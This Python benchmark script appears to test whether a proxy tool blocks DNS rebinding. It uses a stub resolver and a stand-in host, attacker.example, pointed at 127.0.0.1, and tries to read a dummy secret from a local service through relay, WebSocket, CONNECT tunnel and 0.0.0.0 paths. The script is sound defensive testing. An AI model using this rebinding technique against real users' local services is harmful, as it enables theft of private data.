"""DNS rebinding through the proxy (issue 35 §2): what a web page gets from a loopback service through a tree's proxy.

Behind an explicit proxy the browser never resolves names: the proxy does. A page served under a public name of
the attacker's (`attacker.example`) whose DNS is then re-pointed at 127.0.0.1 makes the browser ask the proxy
for `http://attacker.example:PORT/...` again, and the page reads the answer as its own origin's. Here a loopback
service holds a secret file, the proxy runs in this process with a stub resolver (name -> addresses: no DNS query
is ever sent, no packet leaves loopback), and each row is one way a page reaches that service through the proxy:
the plain relay (`--peer-listen off`), the fallback download (the block engine on, as `swarmproxy run` runs by
default), a WebSocket upgrade, a CONNECT tunnel (what a browser does for `ws://` through a proxy; needs the
service's port in `--connect-ports`, so this row runs with `*`) and the name `0.0.0.0`. The last row, a name
that is local by itself (`app.localhost`), must keep working.

    git -C /work/main archive HEAD | tar -x -C /tmp/rebind-head   # the tree before the fix
    .venv/bin/python bench/attacks/rebinding.py --tree /tmp/rebind-head
    .venv/bin/python bench/attacks/rebinding.py

--tree picks the source tree whose proxy runs (default: this checkout). A tree from before the fix has no way to
take a resolver, so the stub is put where its connector looks for its default one (`aiohttp.connector`); prints a
table and JSON (also to --json).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import inspect
import json
import pathlib
import socket
import sys
import tempfile

HERE = pathlib.Path(__file__).resolve().parents[2]
SECRET = b"SECRET: the local service's private data\n" * 100  # 4200 bytes a page must never read
NAMES = {"attacker.example": ["127.0.0.1"], "zero.example": ["0.0.0.0"], "app.localhost": ["127.0.0.1"]}
TIMEOUT_S = 10.0  # one request's whole exchange; loopback answers in milliseconds


def stub_resolver_class():
    from aiohttp.abc import AbstractResolver

    class Stub(AbstractResolver):
        """name -> addresses from NAMES; anything else does not exist. Never sends a query."""

        def __init__(self, *args, **kwargs) -> None:  # also stands in for aiohttp's DefaultResolver(loop=...)
            pass

        async def resolve(self, host, port=0, family=socket.AF_INET):
            found = NAMES.get(host.lower().rstrip("."))
            if not found:
                raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
            return [{"hostname": host, "host": address, "port": port,
                     "family": socket.AF_INET6 if ":" in address else socket.AF_INET, "proto": 0,
                     "flags": socket.AI_NUMERICHOST | socket.AI_NUMERICSERV} for address in found]

        async def close(self) -> None:
            pass

    return Stub


def patch_old_tunnel_resolution() -> None:
    from proxy import exposure, relay, tunnel
    from proxy.errors import OriginError

    async def resolve_allowed(host, port, *, local_client):
        found = NAMES.get(host.lower().rstrip("."), [host] if _is_literal(host) else [])
        if not found:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        infos = [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 0, "", (a, port)) for a in found]
        allowed = infos if local_client else [i for i in infos if not exposure.is_internal(i[4][0])]
        if not allowed:
            raise OriginError(403, f"forbidden: {host}:{port} is an internal address")
        return allowed

    for module in (exposure, relay, tunnel):
        module.resolve_allowed = resolve_allowed


def _is_literal(host: str) -> bool:
    import ipaddress

    try:
        ipaddress.ip_address(host)
        return True
    except ValueError:
        return False


async def start_service():
    from aiohttp import web

    hits: list[str] = []

    async def secret(request):
        hits.append(request.path)
        return web.Response(body=SECRET, content_type="application/octet-stream")

    async def websocket(request):
        hits.append(request.path)
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        await ws.send_bytes(SECRET)
        await ws.close()
        return ws

    app = web.Application()
    app.router.add_get("/secret", secret)
    app.router.add_get("/ws", websocket)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    return runner, site._server.sockets[0].getsockname()[1], hits


@contextlib.asynccontextmanager
async def proxy(workdir: pathlib.Path, **flags):
    from proxy.config import Config
    from proxy.server import ProxyServer

    base = {"listen": "127.0.0.1:0", "data_dir": str(workdir / f"data{len(list(workdir.iterdir()))}"),
            "dht_listen": "off", "peer_listen": "off", "no_lan_discovery": True, "connect_ports": "*"}
    config = Config.load({**base, **flags}, environ={})
    stub = stub_resolver_class()
    if "resolver" in inspect.signature(ProxyServer).parameters:
        server = ProxyServer(config, resolver=stub())
    else:  # the tree before the fix: its session's connector makes aiohttp's default resolver, its tunnel asks
        # getaddrinfo through `resolve_allowed`; both answer from NAMES too, so no query leaves this machine
        import aiohttp.connector

        aiohttp.connector.DefaultResolver = stub
        patch_old_tunnel_resolution()
        server = ProxyServer(config)
    await server.start()
    try:
        yield server.addresses["proxy"]
    finally:
        await server.stop()


async def http_get(address: str, url: str) -> tuple[int, bytes]:
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(f"GET {url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        await writer.drain()
        data = await reader.read()
    finally:
        writer.close()
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split(b" ", 2)[1]), body


async def websocket(address: str, url: str) -> tuple[int, bytes]:
    import aiohttp

    async with aiohttp.ClientSession() as session:
        try:
            async with session.ws_connect(url, proxy=f"http://{address}") as ws:
                message = await ws.receive()
                return 101, message.data if isinstance(message.data, bytes) else b""
        except aiohttp.WSServerHandshakeError as exc:
            return exc.status, b""


async def tunnel(address: str, target: str) -> tuple[int, bytes]:
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        status = int(head.split(b" ", 2)[1])
        if status != 200:
            return status, b""
        writer.write(b"GET /secret HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n")
        await writer.drain()
        return status, (await reader.read()).partition(b"\r\n\r\n")[2]
    finally:
        writer.close()


async def run(tree: pathlib.Path) -> list[dict]:
    runner, port, hits = await start_service()
    rows = []
    cases = [
        ("relay (--peer-listen off)", {}, lambda a: http_get(a, f"http://attacker.example:{port}/secret")),
        ("fallback download (engine on)", {"peer_listen": "127.0.0.1:0"},
         lambda a: http_get(a, f"http://attacker.example:{port}/secret")),
        ("WebSocket upgrade", {}, lambda a: websocket(a, f"ws://attacker.example:{port}/ws")),
        ("CONNECT tunnel (--connect-ports *)", {}, lambda a: tunnel(a, f"attacker.example:{port}")),
        ("name -> 0.0.0.0", {}, lambda a: http_get(a, f"http://zero.example:{port}/secret")),
        ("control: app.localhost (local name)", {}, lambda a: http_get(a, f"http://app.localhost:{port}/secret")),
    ]
    try:
        with tempfile.TemporaryDirectory() as tmp:
            for label, flags, attempt in cases:
                before = len(hits)
                async with proxy(pathlib.Path(tmp), **flags) as address:
                    async with asyncio.timeout(TIMEOUT_S):
                        status, body = await attempt(address)
                rows.append({"case": label, "status": status, "bytes": len(body), "secret_read": SECRET in body,
                             "service_requests": len(hits) - before})
    finally:
        await runner.cleanup()
    return rows


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--tree", type=pathlib.Path, default=HERE, help="source tree whose proxy runs")
    parser.add_argument("--json", type=pathlib.Path, default=None, help="also write the rows here")
    args = parser.parse_args()
    tree = args.tree.resolve()
    if "proxy" in sys.modules:
        raise SystemExit("run this as a script, before anything imports proxy")
    sys.path.insert(0, str(tree))  # first, so the tree's `proxy` wins over this checkout's
    rows = asyncio.run(run(tree))
    print(f"tree: {tree}")
    print(f"{'what the page tried':38} {'status':>6} {'bytes':>6} {'secret read':>11} {'service hit':>11}")
    for row in rows:
        print(f"{row['case']:38} {row['status']:>6} {row['bytes']:>6} {str(row['secret_read']):>11} "
              f"{row['service_requests']:>11}")
    result = {"tree": str(tree), "rows": rows}
    print(json.dumps(result))
    if args.json:
        args.json.write_text(json.dumps(result, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
